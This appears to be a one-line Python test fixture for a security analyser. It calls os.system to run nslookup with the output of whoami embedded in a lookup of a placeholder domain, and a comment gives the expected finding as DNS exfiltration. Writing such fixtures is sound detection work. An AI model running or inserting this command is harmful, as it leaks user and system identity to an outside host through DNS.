import os

os.system("nslookup $(whoami).toy.example.invalid")  # expect: source/dns-exfiltration import conclusive
